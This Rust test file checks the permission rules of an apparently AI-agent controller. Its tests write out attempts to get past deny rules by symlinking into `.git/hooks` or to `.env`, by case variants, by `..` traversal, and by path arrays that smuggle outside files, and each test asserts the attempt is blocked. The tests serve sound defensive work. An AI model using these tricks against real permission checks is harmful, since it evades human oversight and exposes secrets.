            ("c2", "write_file", write("docs/a.md")),
        ]);
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        let RunOutcome::ToolCallsSuspended { tool_calls, .. } = outcome else {
            panic!("docs/a.md waits by requireApproval: {outcome:?}");
        };
        assert!(
            s.ws.path().join("src/a.rs").exists(),
            "the allowed call ran"
        );
        assert_eq!(tool_calls.len(), 1);
        assert_eq!(tool_calls[0].tool_call_id(), "c2");
        assert_eq!(
            tool_calls[0].payload().rule,
            None,
            "no rule asked: requireApproval"
        );
        let events = s.recorder.take();
        assert_eq!(
            ruled(&events),
            [(
                "c1".to_owned(),
                DecisionOutcome::Approved,
                2,
                RuleAction::Allow
            )]
        );
        // The allowed call got the first decision id, the waiting one the next.
        assert_eq!(tool_calls[0].decision_id(), "decision_2");
    }

    #[tokio::test]
    async fn an_ask_rule_suspends_as_require_approval_does_and_names_the_rule() {
        let s = setup(BUILD);
        s.reply(&[("c1", "read_file", json!({"path": "secret/key"}))]);
        s.done();
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        let RunOutcome::ToolCallsSuspended { tool_calls, .. } = outcome else {
            panic!("an ask rule suspends: {outcome:?}");
        };
        let rule = tool_calls[0]
            .payload()
            .rule
            .clone()
            .expect("the rule that asked");
        assert_eq!((rule.number, rule.action), (3, RuleAction::Ask));
        let id = tool_calls[0].decision_id().to_owned();
        // An allowance would let later calls the rule asks about through: refused, nothing
        // changes.
        let refused = session
            .decide(&id, Decision::approve().always_allow())
            .await
            .expect_err("refused");
        assert!(
            matches!(&refused, SessionError::MalformedDecision(m) if m.contains("rule 3 of mode `build`")),
            "{refused}"
        );
        assert_eq!(session.pending().len(), 1);
        let outcome = session
            .decide(&id, Decision::approve())
            .await
            .expect("decide");
        assert!(
            matches!(outcome, RunOutcome::Completed { .. }),
            "{outcome:?}"
        );
        assert_eq!(result(&session, "c1"), "k");
        let record = session.decision_history().last().expect("record");
        assert_eq!(record.outcome, Some(DecisionOutcome::Approved));
        assert_eq!(record.rule.as_ref().map(|r| r.number), Some(3));
    }

    #[tokio::test]
    async fn always_allow_lets_through_what_require_approval_holds_never_what_a_deny_rule_refuses()
    {
        let s = setup(BUILD);
        s.reply(&[("c1", "write_file", write("docs/a.md"))]);
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        let RunOutcome::ToolCallsSuspended { tool_calls, .. } = outcome else {
            panic!("waits: {outcome:?}");
        };
        s.reply(&[
            ("c2", "write_file", write("docs/b.md")),
            ("c3", "write_file", write("docs/.env")),
        ]);
        s.done();
        let id = tool_calls[0].decision_id().to_owned();
        let outcome = session
            .decide(&id, Decision::approve().always_allow())
            .await
            .expect("decide");
        assert!(
            matches!(outcome, RunOutcome::Completed { .. }),
            "{outcome:?}"
        );
        assert!(
            s.ws.path().join("docs/b.md").exists(),
            "allowed for the session"
        );
        assert!(!s.ws.path().join("docs/.env").exists(), "deny still wins");
        assert!(result(&session, "c3").starts_with("Not executed: rule 1 of mode `build`"));
    }

    #[tokio::test]
    async fn a_deny_path_rule_ignores_case_and_an_allow_path_rule_does_not() {
        let s = setup(
            r#"
[[modes]]
id = "build"
availableTools = ["write_file"]
requireApproval = ["write_file"]
rules = [
  { tool = "write_file", path = ".git/**", action = "deny" },
  { tool = "write_file", path = "src/**", action = "allow" },
]
"#,
        );
        s.reply(&[
            ("c1", "write_file", write(".GIT/hooks/pre-commit")),
            ("c2", "write_file", write("SRC/a.rs")),
        ]);
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        assert!(result(&session, "c1").starts_with("Not executed: rule 1 of mode `build`"));
        let RunOutcome::ToolCallsSuspended { tool_calls, .. } = outcome else {
            panic!("SRC/a.rs is not allowed by `src/**`: {outcome:?}");
        };
        assert_eq!(tool_calls[0].tool_call_id(), "c2");
    }

    /// `make_link {link, target}`: makes the symlink `link` in the workspace, pointing at
    /// `target`, as a shell command of the model's could.
    #[cfg(unix)]
    struct MakeLink;

    #[cfg(unix)]
    #[async_trait::async_trait]
    impl agent_controller::tool::Tool for MakeLink {
        fn name(&self) -> &str {
            "make_link"
        }
        fn description(&self) -> String {
            "Makes a symlink.".to_owned()
        }
        fn input_schema(&self) -> serde_json::Value {
            json!({"type": "object", "properties": {"link": {"type": "string"}, "target": {"type": "string"}}})
        }
        async fn execute(
            &self,
            args: &serde_json::Value,
            ctx: &agent_controller::tool::ToolContext<'_>,
        ) -> agent_controller::tool::ToolOutput {
            let link = args["link"].as_str().unwrap_or_default();
            let target = args["target"].as_str().unwrap_or_default();
            match std::os::unix::fs::symlink(target, ctx.workspace.join(link)) {
                Ok(()) => agent_controller::tool::ToolOutput::ok("linked"),
                Err(e) => agent_controller::tool::ToolOutput::error(e.to_string()),
            }
        }
    }

    #[cfg(unix)]
    fn with_make_link(text: &str) -> Setup {
        let mut tools = ToolRegistry::with_workspace_tools();
        tools.register(Arc::new(MakeLink)).expect("make_link");
        let s = setup_with(text, tools);
        std::fs::create_dir_all(s.ws.path().join(".git/hooks")).expect(".git/hooks");
        s
    }

    /// The paths of a reply's calls were all resolved before the first ran: a call that made
    /// `hooks -> .git/hooks` let the next one write `hooks/pre-commit` past `deny **/.git/**`,
    /// ruled while `hooks` did not exist. Each call is ruled again just before it runs.
    #[cfg(unix)]
    #[tokio::test]
    async fn a_symlink_made_by_an_earlier_call_of_the_reply_is_ruled_on() {
        let s = with_make_link(
            r#"
[[modes]]
id = "build"
availableTools = ["make_link", "write_file"]
rules = [
  { tool = "write_file", path = "**/.git/**", action = "deny" },
]
"#,
        );
        s.reply(&[
            (
                "c1",
                "make_link",
                json!({"link": "hooks", "target": ".git/hooks"}),
            ),
            ("c2", "write_file", write("hooks/pre-commit")),
        ]);
        s.done();
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        assert!(
            matches!(outcome, RunOutcome::Completed { .. }),
            "{outcome:?}"
        );
        assert_eq!(result(&session, "c1"), "linked");
        assert!(
            !s.ws.path().join(".git/hooks/pre-commit").exists(),
            "the write through the new symlink never ran"
        );
        let text = result(&session, "c2");
        assert!(
            text.starts_with("Not executed: rule 1 of mode `build`")
                && text.contains("which matches `.git/hooks/pre-commit`"),
            "{text}"
        );
        assert_eq!(
            ruled(&s.recorder.take()),
            [(
                "c2".to_owned(),
                DecisionOutcome::Rejected,
                1,
                RuleAction::Deny
            )]
        );
    }

    /// The same with an `ask` rule: the call that now matches it waits for the user.
    #[cfg(unix)]
    #[tokio::test]
    async fn a_call_that_matches_an_ask_rule_only_once_an_earlier_call_ran_waits() {
        let s = with_make_link(
            r#"
[[modes]]
id = "build"
availableTools = ["make_link", "write_file"]
rules = [
  { tool = "write_file", path = ".git/**", action = "ask" },
]
"#,
        );
        s.reply(&[
            (
                "c1",
                "make_link",
                json!({"link": "hooks", "target": ".git/hooks"}),
            ),
            ("c2", "write_file", write("hooks/pre-commit")),
        ]);
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        let RunOutcome::ToolCallsSuspended { tool_calls, .. } = outcome else {
            panic!("the write waits for the user: {outcome:?}");
        };
        assert!(!s.ws.path().join(".git/hooks/pre-commit").exists());
        assert_eq!(tool_calls.len(), 1);
        assert_eq!(tool_calls[0].tool_call_id(), "c2");
        let rule = tool_calls[0]
            .payload()
            .rule
            .clone()
            .expect("the rule asked");
        assert_eq!((rule.number, rule.action), (1, RuleAction::Ask));
    }

    /// A deny rule checked again when an approved call is about to run refused it, but the
    /// record still said `approved`: the refusal has a record of its own, rejected, with the
    /// rule, and the approval's record stays as it was saved (the history is only appended to).
    #[cfg(unix)]
    #[tokio::test]
    async fn a_deny_on_recheck_records_rejected_with_rule() {
        let s = setup(BUILD);
        std::fs::write(s.ws.path().join(".env"), "SECRET=1").expect(".env");
        std::fs::create_dir_all(s.ws.path().join("docs")).expect("docs");
        s.reply(&[("c1", "write_file", write("docs/cfg"))]);
        s.done();
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        let RunOutcome::ToolCallsSuspended { tool_calls, .. } = outcome else {
            panic!("docs/cfg waits by requireApproval: {outcome:?}");
        };
        assert_eq!(tool_calls[0].payload().rule, None);
        let id = tool_calls[0].decision_id().to_owned();
        // While the call waits, `docs/cfg` becomes a symlink to `.env`.
        std::os::unix::fs::symlink("../.env", s.ws.path().join("docs/cfg")).expect("symlink");
        s.recorder.take();
        let outcome = session
            .decide(&id, Decision::approve().decided_by("alice"))
            .await
            .expect("decide");
        assert!(
            matches!(outcome, RunOutcome::Completed { .. }),
            "{outcome:?}"
        );
        assert_eq!(
            std::fs::read_to_string(s.ws.path().join(".env")).expect(".env"),
            "SECRET=1",
            "the refused call never ran"
        );
        assert!(result(&session, "c1").starts_with("Not executed: rule 1 of mode `build`"));
        // The approval's record stays as it was saved: approved, by alice.
        let records: Vec<_> = session
            .decision_history()
            .iter()
            .filter(|d| d.tool_call_id == "c1")
            .cloned()
            .collect();
        assert_eq!(
            records.len(),
            2,
            "the approval, then the refusal: {records:?}"
        );
        let (approval, refusal) = (&records[0], &records[1]);
        assert_eq!(approval.decision_id, id);
        assert_eq!(approval.outcome, Some(DecisionOutcome::Approved));
        assert_eq!(
            approval.decided_by.as_deref(),
            Some("alice"),
            "who approved it"
        );
        assert_eq!(approval.rule, None, "requireApproval asked, not a rule");
        // The refusal: rejected by rule 1, no person decided it; `tool_end` carries it.
        assert_ne!(refusal.decision_id, id);
        assert_eq!(
            refusal.outcome,
            Some(DecisionOutcome::Rejected),
            "{refusal:?}"
        );
        let rule = refusal.rule.clone().expect("the rule that refused it");
        assert_eq!((rule.number, rule.action), (1, RuleAction::Deny));
        assert_eq!(refusal.decided_by, None);
        assert_eq!(refusal.sha256, approval.sha256);
        assert_eq!(
            ruled(&s.recorder.take()),
            [(
                "c1".to_owned(),
                DecisionOutcome::Rejected,
                1,
                RuleAction::Deny
            )]
        );
    }

    /// A bare `p.md` is written to `.agent/plans/p.md`, and `write_plan` applies `..` to the
    /// name before it: rules on `write_plan` matched another path than the one written. The
    /// tool says where its path argument leads, and the rules match that.
    #[cfg(unix)]
    #[tokio::test]
    async fn a_write_plan_rule_sees_the_plans_dir_path() {
        let s = setup(
            r#"
[[modes]]
id = "plan"
availableTools = ["write_plan"]
requireApproval = ["write_plan"]
rules = [
  { tool = "write_plan", path = ".agent/plans/final.md", action = "deny" },
  { tool = "write_plan", path = ".agent/plans/*.md", action = "allow" },
]
"#,
        );
        // `up` leads out of the plans folder, but `write_plan` drops `up/..` as written.
        std::os::unix::fs::symlink("../../src", s.ws.path().join(".agent/plans/up"))
            .expect("symlink");
        let plan = |path: &str| json!({"path": path, "content": "# P\n\n1. Step\n"});
        s.reply(&[
            ("c1", "write_plan", plan("p.md")),
            ("c2", "write_plan", plan("final.md")),
            ("c3", "write_plan", plan(".agent/plans/up/../final.md")),
        ]);
        s.done();
        let mut session = s.session().await;
        let outcome = session.send_message("go").await.expect("run");
        assert!(
            matches!(outcome, RunOutcome::Completed { .. }),
            "the bare name is allowed where it lands: {outcome:?}"
        );
        assert_eq!(result(&session, "c1"), ".agent/plans/p.md");
        for id in ["c2", "c3"] {
            let text = result(&session, id);
            assert!(
                text.starts_with("Not executed: rule 1 of mode `plan`")
                    && text.contains("which matches `.agent/plans/final.md`"),
                "{id}: {text}"
            );
        }
        assert!(!s.ws.path().join(".agent/plans/final.md").exists());
        assert!(!s.ws.path().join("final.md").exists());
        assert_eq!(
            ruled(&s.recorder.take()),
            [
                (
                    "c1".to_owned(),
                    DecisionOutcome::Approved,
                    2,
                    RuleAction::Allow
                ),
                (
                    "c2".to_owned(),
                    DecisionOutcome::Rejected,
                    1,
                    RuleAction::Deny
                ),
                (
                    "c3".to_owned(),
                    DecisionOutcome::Rejected,
                    1,
                    RuleAction::Deny
                ),
            ]
        );
    }
}

/// A tool of an MCP server under test: its name and the arguments its schema declares.
struct Declares(&'static str, &'static [&'static str]);

#[async_trait::async_trait]
impl agent_controller::tool::Tool for Declares {
    fn name(&self) -> &str {
        self.0
    }
    fn description(&self) -> String {
        "An MCP tool.".to_owned()
    }
    fn input_schema(&self) -> Value {
        let properties: serde_json::Map<String, Value> = self
            .1
            .iter()
            .map(|arg| ((*arg).to_owned(), json!({"type": "string"})))
            .collect();
        json!({"type": "object", "properties": properties})
    }
    async fn execute(
        &self,
        _: &Value,
        _: &agent_controller::tool::ToolContext<'_>,
    ) -> agent_controller::tool::ToolOutput {
        agent_controller::tool::ToolOutput::ok("")
    }
}

/// A path deny on `SERVER__*` missed that server's tools whose path argument has another name
/// (`paths`, `source`): `check` warns at the rule for each covered tool that lacks the
/// argument, and at run time a deny or ask path rule on a wildcard treats a call of a covered
/// tool without the argument as in doubt: it matches.
#[test]
fn a_wildcard_path_deny_flags_tools_without_the_arg() {
    let text = r#"
[[mcpServers]]
id = "fs"
command = "mcp-fs"

[[modes]]
id = "build"
availableTools = ["fs__*"]
rules = [
  { tool = "fs__*", path = "**/.env*", action = "deny" },
  { tool = "fs__*", path = "src/**", action = "allow" },
]
"#;
    let mut tools = ToolRegistry::new();
    for (name, args) in [
        ("fs__read_file", &["path"][..]),
        ("fs__read_multiple_files", &["paths"][..]),
        ("fs__move_file", &["source", "destination"][..]),
    ] {
        tools
            .register(std::sync::Arc::new(Declares(name, args)))
            .expect("register");
    }
    let warnings: Vec<(usize, usize, ConfigErrorKind, String)> =
        config::warnings_with_tools(text, "modes.toml", &tools)
            .iter()
            .map(|w| {
                let at = w.location().expect("a place");
                (at.line, at.column, w.kind(), w.message().to_owned())
            })
            .collect();
    let on_rule_1: Vec<&String> = warnings
        .iter()
        .filter(|(line, column, kind, _)| {
            (*line, *column, *kind) == (10, 28, ConfigErrorKind::WildcardRuleWithoutArg)
        })
        .map(|(_, _, _, message)| message)
        .collect();
    assert_eq!(on_rule_1.len(), 2, "{warnings:?}");
    assert!(
        on_rule_1[0].contains("`fs__move_file`")
            && on_rule_1[0].contains("no argument `path`")
            && on_rule_1[0].contains("`source`")
            && on_rule_1[0].contains("`destination`"),
        "{}",
        on_rule_1[0]
    );
    assert!(
        on_rule_1[1].contains("`fs__read_multiple_files`"),
        "{}",
        on_rule_1[1]
    );
    // The allow rule is warned about too: it never allows those tools' calls.
    assert!(
        warnings
            .iter()
            .any(|(line, _, kind, _)| *line == 11
                && *kind == ConfigErrorKind::WildcardRuleWithoutArg),
        "{warnings:?}"
    );

    // At run time: no `path`, so the path is in doubt: denied, never allowed.
    let graph = graph(text);
    let build = graph.default_mode();
    let call = ToolCall::new(
        "c1",
        "fs__read_multiple_files",
        json!({"paths": [".env", "src/a.rs"]}),
    );
    let verdict = decide(build, true, &call, &ResolvedPaths::new());
    assert_eq!(
        (verdict.action, verdict.decided_by),
        (RuleAction::Deny, DecidedBy::Rule(1)),
        "{}",
        verdict.reason
    );
    assert!(verdict.reason.contains("in doubt"), "{}", verdict.reason);
    let moved = ToolCall::new(
        "c2",
        "fs__move_file",
        json!({"source": "src/a.rs", "destination": "src/b.rs"}),
    );
    assert_eq!(
        decide(build, true, &moved, &ResolvedPaths::new()).action,
        RuleAction::Deny
    );
    // A tool rule on one named tool still reads only that tool's argument.
    let read = ToolCall::new("c3", "fs__read_file", json!({"path": "src/a.rs"}));
    assert_eq!(
        decide(
            build,
            true,
            &read,
            &ResolvedPaths::new().with("path", "src/a.rs")
        )
        .decided_by,
        DecidedBy::Rule(2)
    );
}

/// `list_files {}` lists the workspace root, but its missing `path` matched no rule: the rules
/// see the folder the tool lists, its default included.
#[test]
fn a_list_files_call_without_a_path_is_ruled_on_the_folder_it_lists() {
    use agent_controller::rules::resolve_paths_for;
    use agent_controller::tool::{ToolContext, fs::ListFiles};
    let ws = tempfile::tempdir().expect("tempdir");
    let graph = graph(
        r#"
[[modes]]
id = "build"
rules = [{ tool = "list_files", path = "**", action = "ask" }]
"#,
    );
    let build = graph.default_mode();
    let plans = ws.path().join(".agent/plans");
    let ctx = ToolContext::new(ws.path(), &plans, "build");
    for args in [json!({}), json!({"path": ""}), json!({"path": "."})] {
        let call = ToolCall::new("c1", "list_files", args.clone());
        let paths = resolve_paths_for(build.rules(), &call, &ListFiles, &ctx);
        assert_eq!(
            paths.get("path"),
            Some(&ResolvedPath::Inside(String::new())),
            "{args}"
        );
        assert_eq!(
            decide(build, true, &call, &paths).decided_by,
            DecidedBy::Rule(1),
            "{args}"
        );
    }
}

#[test]
fn a_rule_on_an_mcp_wildcard_matches_every_tool_of_the_server() {
    // Latent bug: `tool = "fs__*"` passed `check` but matched no call (names compared as text).
    let text = r#"
[[mcpServers]]
id = "fs"
command = "mcp-fs"

[[modes]]
id = "build"
availableTools = ["fs__*"]
rules = [
  { tool = "fs__*", path = "**/.env*", action = "deny" },
  { tool = "fs__write_file", action = "ask" },
]
"#;
    assert_eq!(
        errors(text),
        [],
        "a rule on the wildcard, and on a tool it offers, are valid"
    );
    let graph = graph(text);
    let build = graph.default_mode();
    let call = |name: &str, path: &str| ToolCall::new("c1", name, json!({"path": path}));
    let at = |p: &str| ResolvedPaths::new().with("path", p);
    let outcome = |v: Verdict| (v.action, v.decided_by);
    assert_eq!(
        outcome(decide(
            build,
            true,
            &call("fs__read_text_file", ".env"),
            &at(".env")
        )),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    assert_eq!(
        outcome(decide(
            build,
            true,
            &call("fs__write_file", "a.txt"),
            &at("a.txt")
        )),
        (RuleAction::Ask, DecidedBy::Rule(2))
    );
    // Another server's tool is not the wildcard's.
    assert_eq!(
        outcome(decide(
            build,
            true,
            &call("fsx__write_file", ".env"),
            &at(".env")
        )),
        (RuleAction::Allow, DecidedBy::Default)
    );
    // The wildcard's path rule reads the path of each of the server's tools.
    assert_eq!(build.rules().path_args("fs__read_text_file"), ["path"]);
}

#[test]
fn a_wildcard_catch_all_shadows_a_rule_on_one_of_its_tools() {
    let text = r#"
[[mcpServers]]
id = "fs"
command = "mcp-fs"

[[modes]]
id = "build"
availableTools = ["fs__*"]
rules = [
  { tool = "fs__*", action = "deny" },
  { tool = "fs__write_file", path = "src/**", action = "allow" },
]
"#;
    let found = errors(text);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].0, found[0].2),
        (11, ConfigErrorKind::ShadowedRule)
    );
}

#[test]
fn deny_and_ask_path_rules_ignore_case_and_allow_rules_do_not() {
    // Latent bug: `.git/**` denied `.git/hooks/x` but not `.GIT/hooks/x`, the same file on a
    // file system that ignores case.
    let graph = graph(
        r#"
[[modes]]
id = "build"
requireApproval = ["write_file"]
rules = [
  { tool = "write_file", path = ".git/**", action = "deny" },
  { tool = "write_file", path = "secret/**", action = "ask" },
  { tool = "write_file", path = "src/**", action = "allow" },
]
"#,
    );
    let build = graph.default_mode();
    let at = |p: &str| ResolvedPaths::new().with("path", p);
    let outcome = |p: &str| {
        let v = decide(build, true, &write(p), &at(p));
        (v.action, v.decided_by)
    };
    assert_eq!(
        outcome(".GIT/hooks/x"),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    assert_eq!(
        outcome(".Git/config"),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    assert_eq!(outcome("SECRET/k"), (RuleAction::Ask, DecidedBy::Rule(2)));
    assert_eq!(outcome("src/a.rs"), (RuleAction::Allow, DecidedBy::Rule(3)));
    assert_eq!(
        outcome("SRC/a.rs"),
        (RuleAction::Ask, DecidedBy::RequireApproval)
    );
}

#[test]
fn a_glob_holds_whether_its_stars_stop_at_a_slash() {
    let path = Glob::path("src/*").expect("glob");
    let text = Glob::text("src/*").expect("glob");
    assert!(path.literal_separator() && !text.literal_separator());
    assert!(!path.is_match("src/a/b") && text.is_match("src/a/b"));
    assert_ne!(path, text, "the same text, another kind");
    assert_eq!(path, Glob::path("src/*").expect("glob"));
}

/// The hostile review's finding 3: an allow glob or regex reads a value's canonical text, so on
/// an array (`["src/a.txt", "../outside.txt"]`) its `*` spanned the elements and the `..` guard
/// saw one text, letting a path outside through. An allow string rule fits a string (or
/// another scalar) only: an array or object is in doubt and waits, as `requireApproval` says.
/// Deny and ask rules still match the canonical text of any value.
#[test]
fn an_allow_string_rule_never_fits_an_array_or_an_object() {
    let graph = graph(
        r#"
[[modes]]
id = "build"
requireApproval = ["cat"]
rules = [
  { tool = "cat", arg = "file", glob = "*secret*", action = "deny" },
  { tool = "cat", arg = "file", glob = "*src/*", action = "allow" },
  { tool = "cat", arg = "file", regex = ".*src/.*", action = "allow" },
]
"#,
    );
    let build = graph.default_mode();
    let outcome = |file: Value| {
        let call = ToolCall::new("c", "cat", json!({ "file": file }));
        let verdict = decide(build, true, &call, &ResolvedPaths::new());
        (verdict.action, verdict.decided_by)
    };
    assert_eq!(
        outcome(json!("src/a.txt")),
        (RuleAction::Allow, DecidedBy::Rule(2))
    );
    assert_eq!(
        outcome(json!("src/../.env")),
        (RuleAction::Ask, DecidedBy::RequireApproval),
        "a `..` in a string is in doubt"
    );
    for file in [
        json!(["src/a.txt", "../outside.txt"]),
        json!(["src/a.txt", "/etc/hostname"]),
        json!(["src/a.txt"]),
        json!({ "src/a": "b" }),
    ] {
        assert_eq!(
            outcome(file.clone()),
            (RuleAction::Ask, DecidedBy::RequireApproval),
            "{file}"
        );
    }
    assert_eq!(
        outcome(json!(["src/a.txt", "secret.txt"])),
        (RuleAction::Deny, DecidedBy::Rule(1)),
        "a deny rule still reads the array's text"
    );
}

/// A negated rule (`not = true`, issue 42) matches the values that do not fit its pattern, and
/// never lets more through: a path in doubt matches a negated deny rule and no negated allow
/// rule; a negated deny rule counts a case variant as outside, a negated allow rule does not
/// allow it; a negated allow string rule never fits a value of several lines.
#[test]
fn a_negated_rule_matches_what_does_not_fit_and_doubt_never_allows() {
    let graph = graph(
        r#"
[[modes]]
id = "build"
requireApproval = ["write_file"]
rules = [
  { tool = "write_file", path = "src/**", not = true, action = "deny" },
  { tool = "read_file", path = "secret/**", not = true, action = "allow" },
  { tool = "write_file", arg = "content", glob = "TODO*", not = true, action = "ask" },
]
"#,
    );
    let build = graph.default_mode();
    let at = |path: &str| ResolvedPaths::new().with("path", path);
    let rule_of = |call: &ToolCall, paths: &ResolvedPaths| {
        let v = decide(build, true, call, paths);
        (v.action, v.decided_by)
    };
    assert_eq!(
        rule_of(&write("docs/a.md"), &at("docs/a.md")),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    // Inside: not denied; the content is not a TODO, so rule 3 asks.
    assert_eq!(
        rule_of(&write("src/a.rs"), &at("src/a.rs")),
        (RuleAction::Ask, DecidedBy::Rule(3))
    );
    let todo = ToolCall::new(
        "c2",
        "write_file",
        json!({"path": "src/a.rs", "content": "TODO x"}),
    );
    assert_eq!(
        rule_of(&todo, &at("src/a.rs")),
        (RuleAction::Ask, DecidedBy::RequireApproval)
    );
    // A case variant is outside for a negated deny rule.
    assert_eq!(
        rule_of(&write("SRC/a.rs"), &at("SRC/a.rs")),
        (RuleAction::Deny, DecidedBy::Rule(1))
    );
    // In doubt: denied.
    let doubt = ResolvedPaths::new()
        .with_resolved("path", ResolvedPath::Doubtful("leads outside".to_owned()));
    assert_eq!(rule_of(&write("src/../../x"), &doubt).0, RuleAction::Deny);
    // A negated allow rule: allows outside `secret/`, never a case variant of it or a doubt.
    let read = |path: &str| ToolCall::new("c3", "read_file", json!({"path": path}));
    assert_eq!(
        rule_of(&read("README.md"), &at("README.md")),
        (RuleAction::Allow, DecidedBy::Rule(2))
    );
    assert_eq!(
        rule_of(&read("SECRET/key"), &at("SECRET/key")),
        (RuleAction::Allow, DecidedBy::Default),
        "not allowed by the rule: only the default lets it run"
    );
    assert_ne!(
        rule_of(&read("../x"), &doubt).1,
        DecidedBy::Rule(2),
        "doubt never allows"
    );
    // Two rules alike but for `not` never shadow each other.
    assert!(
        errors(
            r#"
[[modes]]
id = "build"
rules = [
  { tool = "write_file", path = "src/**", action = "deny" },
  { tool = "write_file", path = "src/**", not = true, action = "deny" },
]
"#
        )
        .is_empty()
    );
}
